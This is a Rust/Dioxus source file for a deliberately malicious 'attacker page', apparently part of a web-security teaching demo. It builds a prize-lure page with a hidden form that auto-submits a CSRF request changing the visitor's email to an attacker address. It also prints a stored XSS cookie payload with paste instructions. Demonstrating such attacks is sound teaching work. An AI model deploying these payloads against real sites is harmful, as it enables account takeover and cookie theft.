//! Attacker page.
//!
//! Served by the demo itself for convenience; in a real attack it would live on another
//! origin. On load it silently posts to `/change-email` with the visitor's cookies.

use dioxus::prelude::*;

use crate::{document, Layout};

pub const ATTACKER_EMAIL: &str = "attacker@evil.example";

const XSS_PAYLOAD: &str = "<script>alert(document.cookie)</script>";

const AUTO_SUBMIT: &str = "document.getElementById('csrf-form').submit();";

#[component]
pub fn AttackerPage() -> Element {
    rsx! {
        Layout {
            title: "You won a prize!",
            p { "Claiming your prize, please wait..." }
            form {
                id: "csrf-form",
                method: "post",
                action: "/change-email",
                input { r#type: "hidden", name: "email", value: ATTACKER_EMAIL }
                input { r#type: "hidden", name: "next", value: "/profile" }
                noscript { button { r#type: "submit", "Claim prize" } }
            }
            script { dangerous_inner_html: AUTO_SUBMIT }
            h2 { "Stored XSS payload" }
            p { "Paste this into the comment form while XSS is enabled:" }
            pre { code { "{XSS_PAYLOAD}" } }
        }
    }
}

pub fn render_attacker() -> String {
    document(rsx! {
        AttackerPage {}
    })
}
